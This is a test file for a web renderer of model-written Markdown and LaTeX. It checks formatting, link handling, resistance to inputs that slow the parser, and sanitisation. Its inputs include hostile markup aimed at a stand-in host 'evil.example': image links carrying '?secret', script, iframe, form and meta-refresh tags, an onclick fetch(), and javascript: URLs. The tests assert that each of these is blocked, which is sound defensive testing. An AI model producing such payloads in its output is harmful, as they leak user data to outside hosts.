import { describe, expect, it } from 'vitest';
import { renderMarkdown } from '../../../src/elements/markdown/markdown.ts';
import { renderMath } from '../../../src/elements/markdown/math.ts';

/** The page after a model has written `text`. */
function show(text: string): HTMLElement {
  const element = document.createElement('div');
  element.innerHTML = renderMarkdown(text)?.join('') ?? 'not Markdown';
  return element;
}

describe('what a model writes', () => {
  it('is shown with its emphasis, lists, tables and code', () => {
    const shown = show('**5117**\n\n1. one\n\n| n | square |\n|--:|--:|\n| 2 | 4 |\n\n```python\nprint(1)\n```');
    expect(shown.querySelector('strong')?.textContent).toBe('5117');
    expect(shown.querySelector('ol > li')?.textContent).toBe('one');
    expect(shown.querySelector('td')?.getAttribute('align')).toBe('right');
    expect(shown.querySelector('pre > code')?.textContent).toBe('print(1)\n');
  });

  it('has its headings below those of the page', () => {
    expect(show('# Big\n\n##### Small').innerHTML).toBe('<h3>Big</h3>\n<h6>Small</h6>\n');
  });

  it('keeps the blocks that are complete as they are while the last one grows', () => {
    const early = renderMarkdown('First.\n\nSec');
    const late = renderMarkdown('First.\n\nSecond.');
    expect(late?.[0]).toBe(early?.[0]);
    expect(late).toHaveLength(2);
  });

  it.each(['![a chart](https://evil.example/?secret)', '<img src="https://evil.example/?secret" alt="a chart">'])(
    'has in the place of an image from elsewhere its words and its address, and loads nothing: %s',
    (markup) => {
      const shown = show(markup);
      const placeholder = shown.querySelector('glove-remote-image');
      expect(placeholder?.getAttribute('address')).toBe('https://evil.example/?secret');
      expect(placeholder?.getAttribute('alt')).toBe('a chart');
      expect(shown.querySelector('img, [src]')).toBeNull();
    },
  );

  it('draws pictures that are in the text itself', () => {
    const address = 'data:image/gif;base64,R0lGODdhBwAFAIEAAAAAAAAAAAAAAAAAACwAAAAABwAFAAAIDAABCBxIsKDBgwcDAgA7';
    expect(show(`![dot](${address})`).querySelector('img')?.getAttribute('src')).toBe(address);
  });

  it.each(['settings.png', '/settings', 'javascript:alert(1)', 'blob:https://a.example/b', 'data:text/html,x'])(
    'shows the words alone for an image at %s',
    (address) => {
      const shown = show(`![a chart](${address})`);
      expect(shown.textContent?.trim()).toBe('a chart');
      expect(shown.querySelector('img, glove-remote-image')).toBeNull();
    },
  );

  it('shows words for an image that are markup as words', () => {
    expect(show('![<b>bold</b>](x) ![<b>bold</b>](https://a.example/x)').querySelector('b')).toBeNull();
  });

  it.each([
    '<picture><source srcset="https://evil.example/a"></picture>',
    '<video src="https://evil.example/a" poster="https://evil.example/b"></video>',
    '<audio src="https://evil.example/a"></audio>',
    '<iframe src="https://evil.example/a"></iframe>',
    '<object data="https://evil.example/a"></object>',
    '<embed src="https://evil.example/a">',
    '<link rel="stylesheet" href="https://evil.example/a">',
    '<style>@import "https://evil.example/a"</style>',
    '<form action="https://evil.example/a"><input name="a"><button>Go</button></form>',
    '<svg><use href="https://evil.example/a#b"></use><image href="https://evil.example/a"/></svg>',
    '<p style="background: url(https://evil.example/a)">text</p>',
    '<table background="https://evil.example/a"><tr><td>text</td></tr></table>',
    '<base href="https://evil.example/">',
    '<meta http-equiv="refresh" content="0; url=https://evil.example/">',
    '<script src="https://evil.example/a"></script>',
    '<b onclick="fetch(\'https://evil.example/a\')">text</b>',
  ])('loads and sends nothing by itself: %s', (markup) => {
    expect(show(markup).innerHTML).not.toContain('evil.example');
  });

  it('has links that show where they go and open apart from the page', () => {
    const link = show('[the docs](https://docs.python.org/3/ "nicer name")').querySelector('a');
    expect(link?.title).toBe('https://docs.python.org/3/');
    expect(link?.target).toBe('_blank');
    expect(link?.rel).toBe('noopener noreferrer');
  });

  it('says where a link leads that says something else', () => {
    const [docs, bare] = show('[the docs](https://docs.python.org/3/) https://peps.python.org/').querySelectorAll('a');
    expect(docs?.dataset.host).toBe('docs.python.org');
    expect(bare?.dataset.host).toBeUndefined();
  });

  it.each([
    'javascript:alert(1)',
    'data:text/html,hello',
    'vbscript:x',
    'blob:https://a.example/b',
    '/settings',
    '#top',
  ])('has no link to %s', (address) => {
    expect(show(`[click](${address}) <a href="${address}">click</a>`).querySelector('[href]')).toBeNull();
  });

  it('can be written to by mail', () => {
    expect(show('<mail@example.org>').querySelector('a')?.title).toBe('mailto:mail@example.org');
  });
});

describe('Markdown that takes a parser long', () => {
  it.each([
    ['addresses', 'a.', '@'],
    ['emphasis', '_a_', ''],
    ['stars', '*a', ''],
    ['brackets', '[', ''],
    ['pictures', '![', ''],
    ['open formulas', '\\(', ''],
  ])('is shown as it was written, in a paragraph between others: %s', (_, part, end) => {
    const text = `${part.repeat(10_000)}${end}`;
    const shown = show(`A **first** one.\n\n${text}\n\nA **last** one.`);
    expect(shown.querySelectorAll('p')[1]?.textContent).toBe(text);
    expect([...shown.querySelectorAll('strong')].map(({ textContent }) => textContent)).toEqual(['first', 'last']);
  });

  it.each([
    ['quotations', '>'],
    ['lists', '- '],
    ['both', '> - '],
    ['numbered lists', '1. '],
  ])('is shown as far as somebody can follow, inside of each other: %s', (_, part) => {
    const shown = show(`${part.repeat(7500)}the end`);
    expect(shown.textContent).toContain('the end');
    expect(shown.querySelectorAll('blockquote, ul, ol').length).toBeLessThanOrEqual(24);
  });

  it.each([
    ['many paragraphs before formulas', 'b\n$$a$$\n'],
    ['formulas without an end', '$$a\n'],
    ['formulas without an end, each a paragraph', '\\[\n\n'],
    ['items', '- a\n\n'],
    ['headings', 'a\n=\n'],
  ])('is shown: %s', (_, part) => {
    const text = part.repeat(99_000 / part.length);
    expect(renderMarkdown(text, renderMath)?.length ?? 'text').not.toBe(0);
  });

  it.each([
    ['long', 'a.'.repeat(200_000)],
    ['of many blocks', 'a\n\n'.repeat(20_000)],
  ])('is only text where it is too %s', (_, text) => {
    expect(renderMarkdown(text)).toBeUndefined();
  });

  it.each(['{', '\\frac', '\\sqrt{', '\\left('])('shows the source of a formula without an end: %s', (part) => {
    expect(renderMath(part.repeat(20_000), true)).toBeUndefined();
  });

  it.each(['{', '\\frac', '\\sqrt{', '\\left('])(
    'shows the source of a formula in a text, where it has no end: %s',
    (part) => {
      const shown = document.createElement('div');
      shown.innerHTML = renderMarkdown(`$$${part.repeat(500)}$$`, renderMath)?.join('') ?? '';
      expect(shown.textContent).toContain(part);
    },
  );
});

describe('LaTeX in what a model writes', () => {
  const draw = (text: string): HTMLElement => {
    const element = document.createElement('div');
    element.innerHTML = renderMarkdown(text, renderMath)?.join('') ?? 'not Markdown';
    return element;
  };

  it.each(['Euler: $e^{i\\pi} + 1 = 0$.', 'Euler: \\(e^{i\\pi} + 1 = 0\\).'])('is drawn in the line: %s', (text) => {
    const math = draw(text).querySelector('p > span > math, p > math');
    expect(math?.querySelector('msup')?.textContent).toContain('π');
    expect(math?.getAttribute('display')).not.toBe('block');
  });

  it.each(['$$\\frac{1}{2}$$', '$$\n\\frac{1}{2}\n$$', '\\[\\frac{1}{2}\\]', 'So\n\\[\n\\frac{1}{2}\n\\]\nit is.'])(
    'is drawn in a place of its own: %j',
    (text) => {
      expect(draw(text).querySelector('math[display="block"] mfrac')?.textContent).toBe('12');
    },
  );

  it.each(['It costs $5 and not $10.', 'US$5, or $6/$7', '`$x$`', 'It is $ 5 $ here', '\\$x\\$'])(
    'is not where there are only prices or code: %s',
    (text) => {
      expect(draw(text).querySelector('math')).toBeNull();
    },
  );

  it('shows its source until it can be drawn, and where it cannot', () => {
    expect(show('Here $x^2$.').querySelector('code')?.textContent).toBe('$x^2$');
    expect(draw('Here $\\frac{$.').querySelector('math')).toBeNull();
    expect(draw('Here $\\frac{1$.').textContent).toContain('$\\frac{1$');
  });

  it.each([
    '$\\href{https://evil.example}{x}$',
    '$\\includegraphics{https://evil.example/a.png}$',
    '$\\url{https://evil.example}$',
  ])('leads nowhere and loads nothing: %s', (text) => {
    expect(draw(text).querySelector('a, img, [href], [src], [style]')).toBeNull();
  });
});
